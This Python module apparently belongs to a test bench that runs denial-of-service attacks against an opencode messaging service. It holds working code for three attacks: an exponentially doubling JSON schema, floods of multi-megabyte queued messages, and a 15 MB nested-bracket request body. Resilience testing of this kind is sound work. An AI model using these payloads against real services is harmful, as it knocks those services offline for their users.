"""Requests that are valid, and cost much."""

import asyncio
import contextlib
import itertools
import json

import grpc

from bench.attacks.attack import Attack, Seen, Target
from bench.attacks.services import said, services
from bench.attacks.wire import ATTACKER
from opencode.message.message_pb2 import MessagePart, SendMessageRequest, TextPart
from opencode.session.session_pb2 import CreateSessionRequest
from opencode.tool.tool_pb2 import ToolDefinition
from opencode.turn.turn_service_pb2 import EditQueuedMessageRequest, MoveQueuedMessageRequest

_SEND = "/opencode.message.MessageService/SendMessage"


async def _costly_arguments(target: Target, seen: Seen) -> None:
    """A schema whose references double thirty times checks the arguments of calls, one after the other."""
    doubling = {f"d{n}": {"allOf": [{"$ref": f"#/$defs/d{n + 1}"}] * 2} for n in range(30)}
    schema = json.dumps({"$ref": "#/$defs/d0", "$defs": {**doubling, "d30": {}}})
    request = said("/tool look {}\n" * 20)
    request.tools.append(ToolDefinition(name="look", input_schema_json=schema))
    async with services(target, seen) as one:
        await asyncio.gather(*(one.again(lambda: one.messages.SendMessage(request)) for _ in range(16)))


async def _large_queues(target: Target, seen: Seen) -> None:
    """Fills a queue with large messages, moves and edits them, and sends more than may wait."""
    async with services(target, seen) as one:
        session_id = (await one.sessions.CreateSession(CreateSessionRequest())).id
        await one.messages.SendMessage(said("/sleep 600", session_id))
        waiting = list[str]()

        async def fill(size: int) -> None:
            with contextlib.suppress(grpc.aio.AioRpcError):
                waiting.append((await one.messages.SendMessage(said("y" * size, session_id))).message_id)

        await asyncio.gather(*(fill(size) for size in [6_000_000] * 8 + [100] * 92))
        places = itertools.cycle(waiting)
        part = MessagePart(text=TextPart(text="w" * 3_000_000))

        async def move() -> None:
            move = MoveQueuedMessageRequest(session_id=session_id, message_id=next(places))
            await one.turns.MoveQueuedMessage(move)

        async def edit() -> None:
            edit = EditQueuedMessageRequest(session_id=session_id, message_id=next(places), parts=[part])
            await one.turns.EditQueuedMessage(edit)

        more: SendMessageRequest = said("more", session_id)
        await asyncio.gather(
            *(one.again(move) for _ in range(8)),
            *(one.again(edit) for _ in range(2)),
            one.again(lambda: one.messages.SendMessage(more)),
        )


async def _json_nested(target: Target, _: Seen) -> None:
    body = b'{"parts":' + b"[" * 15_000_000
    head = (
        f"POST {_SEND} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
        f"content-length: {len(body)}\r\n\r\n"
    )

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(*target.host_and_port(web=True), local_addr=ATTACKER)
                try:
                    writer.write(head.encode() + body)
                    await reader.readline()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(again() for _ in range(4)))


ATTACKS = (
    Attack("costly_arguments", "arguments checked against a schema that doubles", (), "the check", _costly_arguments),
    Attack("json_nested", "15 MB of brackets in JSON", (), "the request, before it is parsed", _json_nested),
    Attack(
        "large_queues",
        "100 waiting messages, 8 of them of 6 MB, edited and moved",
        ("limits.max_queued_messages",),
        "further messages of the session",
        _large_queues,
        seconds=5.0,
    ),
)
